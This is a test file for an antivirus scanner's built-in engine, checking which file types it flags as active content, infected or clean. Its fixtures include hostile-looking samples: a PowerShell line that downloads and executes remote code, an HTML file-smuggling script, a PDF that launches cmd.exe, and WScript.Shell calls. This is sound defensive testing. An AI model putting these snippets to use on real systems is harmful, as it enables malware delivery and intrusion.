import { describe, expect, test, afterAll } from 'vitest';
import { isZegelError } from '../../crypto/errors.ts';
import { bytes, eicar, streamOf } from '../../test/support/content.ts';
import {
  compound,
  docx,
  linuxProgram,
  macProgram,
  odt,
  pdf,
  png,
  windowsProgram,
  windowsShortcut,
  xlsx,
} from '../../test/support/documents.ts';
import { zip } from '../../test/support/zip.ts';
import { loadBasicRules } from './basic-rules.ts';
import { Tally, windows } from './basic-scan.ts';
import { BasicEngine } from './basic.ts';
import type { AntivirusResult } from './engine.ts';

const engine = new BasicEngine();
afterAll(() => engine.close());
const scan = async (content: Uint8Array): Promise<AntivirusResult> =>
  (await engine.scan(streamOf(content), content.length)).result;
const unjudged: AntivirusResult = { verdict: 'unscannable', reason: 'active_content' };
const page = (script: string): Uint8Array =>
  bytes(`<!doctype html><p>Uw factuur</p><script>${script}</script>`);
const smuggling = (payload: string): Uint8Array =>
  page(
    `var d = atob("${payload}"); var b = new Blob([d]); var a = document.createElement('a'); a.download = 'x.iso';`,
  );

const hex = (...words: string[]): Uint8Array => new Uint8Array(Buffer.from(words.join(''), 'hex'));
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le'));
const concat = (...parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
/** Zeros, and this at a place in them. */
const at = (offset: number, content: Uint8Array): Uint8Array =>
  concat(new Uint8Array(offset), content, new Uint8Array(4096));
/** A compound file in name only, with this in it. */
const ole = (content: Uint8Array): Uint8Array =>
  concat(hex('d0cf11e0a1b11ae1'), new Uint8Array(1016), content, new Uint8Array(512));
/** [MS-XLS] 2.4.28: a sheet of macros with a name of four letters, and a sheet of cells. */
const excel4Sheet = hex('8500', '0c00', '00010000', '00', '01', '04', '00', '4d616372');
const plainSheet = hex('8500', '0c00', '00010000', '00', '00', '04', '00', '426c6164');
/** A program whose header stands at this place. */
function programAt(header: number): Uint8Array {
  const program = Buffer.alloc(1024);
  program.write('MZ\xff\xff', 'latin1');
  program.writeUInt32LE(header, 0x3c);
  program.write('PE\0\0', header, 'latin1');
  return new Uint8Array(program);
}
/** [MS-ONESTORE] 2.3.1 and 2.6.13. */
const ONENOTE = 'e4525c7b8cd8a74daeb15378d02996d3';
const ONENOTE_FILE = 'e716e3bd65261145a4c48d4d0b7a9eac';
const ABOUT_COMPUTERS =
  'Beste collega,\r\n\r\nDe knop werkt niet. Zet echo off in het batchbestand, zegt Kees, en gebruik in PowerShell' +
  ' het commando Get-Process of Start-Process. In de macro staat CreateObject, en vbaProject.bin zit in het bestand.' +
  '\r\nGa naar C:\\Temp, als het bestaat (if exist). #! staat vooraan in een script. function is een JavaScript-woord.' +
  '\r\nDe link naar [InternetShortcut] mag weg. tell application is AppleScript.\r\n\r\nGroet';
const HTML_MAIL =
  '<!doctype html><html><head><meta charset="utf-8"><style>p { color: #333 }</style><!--[if mso]><xml>' +
  '<o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]--></head><body><p>Uw afspraak</p>' +
  '<a href="https://zorg.example/download?x=1" download>Folder</a><img src="data:image/png;base64,iVBORw0KGgo=">' +
  '<a href="data:text/plain,hallo">tekst</a></body></html>';

describe('the built-in engine', () => {
  test.each<[string, Uint8Array]>([
    ['a Windows program', windowsProgram],
    ['a Linux program', linuxProgram],
    ['a macOS program', macProgram],
    ['a shortcut', windowsShortcut],
    ['a shell script', bytes('#!/bin/sh\n')],
    ['a batch file', bytes('@echo off\r\n')],
    ['VBScript', bytes('x = 1\r\nSet s = CreateObject("WScript.Shell")')],
    ['a Word document with a macro', docx(['x'], [{ name: 'word/vbaProject.bin', content: bytes('x') }])],
    ['an old Word document with a macro', compound('_VBA_PROJECT')],
    ['a PDF with JavaScript', pdf(['x'], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })],
    [
      'a PDF that hides its JavaScript',
      pdf(['x'], { catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
    ],
    ['a Windows program without a page count', programAt(0x100)],
    ['a Windows installer', ole(hex('84100c0000000000c000000000000046'))],
    ['Windows help', hex('49545346', '03000000', '60000000')],
    ['a fat macOS program', hex('cafebabe', '00000002', '01000007')],
    ['a Java class', hex('cafebabe', '00000034', '001d0a00')],
    ['a Java archive', zip([{ name: 'META-INF/MANIFEST.MF', content: bytes('x') }])],
    ['an Android app', zip([{ name: 'classes.dex', content: bytes('x') }])],
    ['Android code', hex('6465780a', '30333500', '00000000')],
    ['WebAssembly', hex('0061736d', '01000000')],
    ['a Python script', bytes('#!/usr/bin/env python3\nprint(1)\n')],
    ['a script behind a byte order mark', bytes('\uFEFF#!/bin/bash\n')],
    ['a batch file that begins otherwise', bytes('\r\nsetlocal enabledelayedexpansion\r\n')],
    [
      'a batch file told by its lines',
      bytes('cd %~dp0\r\nif not exist a.txt goto einde\r\nstart "" a.exe\r\ngoto einde\r\n:einde\r\n'),
    ],
    ['a PowerShell script', bytes('$x = New-Object Foo\nStart-Process -File a\nRemove-Item "b"\n')],
    [
      'PowerShell from the network',
      bytes('iex (New-Object Net.WebClient).DownloadString("https://a.example")'),
    ],
    ['a JScript', bytes('var a = new ActiveXObject("WScript.Shell");')],
    ['the same in UTF-16', utf16('var a = new ActiveXObject("WScript.Shell");')],
    ['a WSF', bytes('<package>\n<job id="a">\n<script language="VBScript">')],
    ['an HTA', bytes('<html><head><HTA:APPLICATION ID="a">')],
    ['VBScript that hides its errors', bytes('On Error Resume Next\r\nExecute(x)\r\n')],
    ['AppleScript', bytes('tell application "Finder"\n  activate\nend tell\n')],
    ['AppleScript that was compiled', bytes('FasdUAS 1.101.10\x0e')],
    ['a registry file', utf16('\uFEFFWindows Registry Editor Version 5.00\r\n')],
    ['an address on the desktop (.url)', bytes('[InternetShortcut]\r\nURL=file://a.example/b\r\n')],
    ['a starter (.desktop)', bytes('[Desktop Entry]\nType=Application\nExec=sh -c x\n')],
    ['an address of macOS (.webloc)', bytes('<?xml?><plist version="1.0"><dict>\n<key>URL</key>')],
    ['a library of Windows', bytes('<?xml version="1.0"?><libraryDescription xmlns="x">')],
    ['a saved search', bytes('<?xml version="1.0"?><persistedQuery version="1.0">')],
    ['a workbook with an Excel 4 macro sheet', ole(excel4Sheet)],
    ['a document with a packed file', compound('\x01Ole10Native')],
    ['an OpenDocument with a macro', zip([{ name: 'Basic/Standard/script-lb.xml', content: bytes('x') }])],
    ['an RTF with a packed file', bytes('{\\rtf1 {\\object\\objemb{\\*\\objclass Package}}}')],
    ['a notebook with a file in it', concat(hex(ONENOTE), new Uint8Array(5_000_000), hex(ONENOTE_FILE))],
    ['a PDF that starts a program', pdf(['x'], { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ])('cannot judge %s', async (_, content) => {
    expect(await scan(content)).toEqual(unjudged);
  });

  test.each<[string, Uint8Array]>([
    ['a CD', at(0x8001, bytes('CD001'))],
    ['a disc in UDF', at(0x8801, bytes('NSR02'))],
    ['a virtual disk', at(0, bytes('conectix'))],
    [
      'a virtual disk of fixed size',
      concat(new Uint8Array(5_000_000), bytes('conectix'), new Uint8Array(504)),
    ],
    ['a volume', concat(at(54, bytes('FAT16   ')).subarray(0, 510), hex('55aa'), new Uint8Array(512))],
    [
      'a disk image of macOS',
      concat(new Uint8Array(9_000), hex('6b6f6c790000000400000200'), new Uint8Array(500)),
    ],
  ])('did not look into %s', async (_, content) => {
    expect(await scan(content)).toEqual({ verdict: 'unscannable', reason: 'archive_not_read' });
  });

  test.each<[string, Uint8Array]>([
    ['a letter about computers', bytes(ABOUT_COMPUTERS)],
    ['the same in UTF-16', utf16(ABOUT_COMPUTERS)],
    ['a mail in HTML', bytes(HTML_MAIL)],
    ['a mail as it is sent', bytes(`From: a@example.org\r\nSubject: x\r\n\r\n${HTML_MAIL}`)],
    ['a workbook', xlsx(['macro', 12])],
    ['an OpenDocument text', odt(['Basic/Standard'])],
    ['an old workbook', ole(plainSheet)],
    ['a signed archive of documents', zip([{ name: 'META-INF/manifest.xml', content: bytes('x') }])],
    ['an archive with a name of Java', zip([{ name: 'over class.txt', content: bytes('x') }])],
    ['a notebook', hex(ONENOTE)],
    [
      'rich text with a picture',
      bytes('{\\rtf1 {\\pict\\pngblip 89504e47}{\\object\\objclass Excel.Sheet.8}}'),
    ],
    ['a calendar', bytes('BEGIN:VCALENDAR\r\nURL:https://a.example\r\nEND:VCALENDAR\r\n')],
    ['settings', bytes('[Mail]\r\nURL=https://a.example\r\n')],
    ['a list in CSV', bytes('naam;bedrag\r\nset;12\r\ncall;13\r\n')],
    ['a PDF that goes to a page', pdf(['x'], { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })],
    ['a PDF', pdf(['Een brief over JavaScript en /Launch'])],
    ['a Word document', docx(['vba'])],
    ['a picture', png],
    ['an old Word document', compound('WordDocument')],
    ['a page with a script', page('console.log(new Blob(["a"]))')],
    ['a text that begins as a program does', bytes('MZ-nummer 12')],
  ])('calls %s clean', async (_, content) => {
    expect(await scan(content)).toEqual({ verdict: 'clean' });
  });

  test('finds a page that smuggles a file, also when its traits lie megabytes apart', async () => {
    const infected = { verdict: 'infected', signature: 'Basic.HTML.Smuggling' };
    expect(await scan(smuggling('AAAA'))).toEqual(infected);
    expect(await scan(smuggling('AAAA'.repeat(2_500_000)))).toEqual(infected);
  });

  test('finds what lies across the border of two windows', async () => {
    const border = 4 * 1024 * 1024;
    for (const at of [border - eicar.length, border - 40, border - 1, border]) {
      const content = new Uint8Array(border + 100_000);
      content.set(eicar, at);
      expect(await scan(content)).toMatchObject({ verdict: 'infected' });
    }
  });

  test('finds what lies across a border deep in 300 MiB, in constant memory', async () => {
    const sizeBytes = 300 * 1024 * 1024;
    // The window of 4 MiB moves on by 4 KiB less.
    const border = 60 * (4 * 1024 * 1024 - 4 * 1024) + 4 * 1024;
    const at = border - 20;
    const block = new Uint8Array(64 * 1024).fill(0x55);
    let peak = 0;
    async function* stream(content: Uint8Array): AsyncGenerator<Uint8Array> {
      for (let sent = 0; sent < sizeBytes;) {
        const next = sent < at ? Math.min(block.length, at - sent) : block.length;
        const piece = sent === at ? content : block.subarray(0, Math.min(next, sizeBytes - sent));
        sent += piece.length;
        peak = Math.max(peak, process.memoryUsage().arrayBuffers);
        yield await Promise.resolve(piece);
      }
    }
    const before = process.memoryUsage().arrayBuffers;
    const found = await engine.scan(stream(eicar), sizeBytes);
    expect(found.result).toMatchObject({ verdict: 'infected' });
    const { result } = await engine.scan(stream(block.subarray(0, eicar.length)), sizeBytes);
    expect(result).toEqual({ verdict: 'clean' });
    expect(peak - before).toBeLessThan(32 * 1024 * 1024);
  });

  test('says what its rules are', async () => {
    const { version, builtAt } = loadBasicRules();
    expect(version).toMatch(/^[0-9a-f]{16}$/);
    expect((await engine.describe()).avdb).toEqual({ version, builtAt });
    expect(new Date(builtAt).getUTCFullYear()).toBeGreaterThan(2025);
  });

  test('leaves the event loop free while it scans', async () => {
    const content = new Uint8Array(48 * 1024 * 1024);
    let longest = 0;
    let last = performance.now();
    const beat = setInterval(() => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    }, 5);
    await scan(content);
    clearInterval(beat);
    expect(longest).toBeLessThan(500);
  });

  test('has given no verdict when its thread does not answer in time', async () => {
    const hurried = new BasicEngine({ deadlineMs: 1 });
    const outcome = await hurried.scan(streamOf(eicar), eicar.length).catch((error: unknown) => error);
    expect(isZegelError(outcome, 'antivirus_unavailable')).toBe(true);
    await hurried.close();
  });
});

describe('windows', () => {
  const cut = async (length: number, pieceBytes: number): Promise<string[]> => {
    const text = 'abcdefghijklmnopqrstuvwxyz'.slice(0, length);
    const all: string[] = [];
    for await (const window of windows(streamOf(bytes(text), pieceBytes), 8, 3)) {
      all.push(Buffer.from(window).toString());
    }
    return all;
  };

  test.each([1, 3, 8, 100])('overlap and leave nothing out, in pieces of %i', async (pieceBytes) => {
    expect(await cut(0, pieceBytes)).toEqual(['']);
    expect(await cut(7, pieceBytes)).toEqual(['abcdefg']);
    expect(await cut(8, pieceBytes)).toEqual(['abcdefgh']);
    expect(await cut(9, pieceBytes)).toEqual(['abcdefgh', 'fghi']);
    expect(await cut(13, pieceBytes)).toEqual(['abcdefgh', 'fghijklm']);
    expect(await cut(14, pieceBytes)).toEqual(['abcdefgh', 'fghijklm', 'klmn']);
  });
});

test('traits count only together', () => {
  const hit = (rule: string) => ({ rule, signature: 'S', verdict: 'infected' as const, traits: 2 });
  const tally = new Tally();
  tally.add([hit('one')]);
  tally.add([hit('one')]);
  expect(tally.result()).toEqual({ verdict: 'clean' });
  tally.add([hit('two')]);
  expect(tally.result()).toEqual({ verdict: 'infected', signature: 'S' });
});
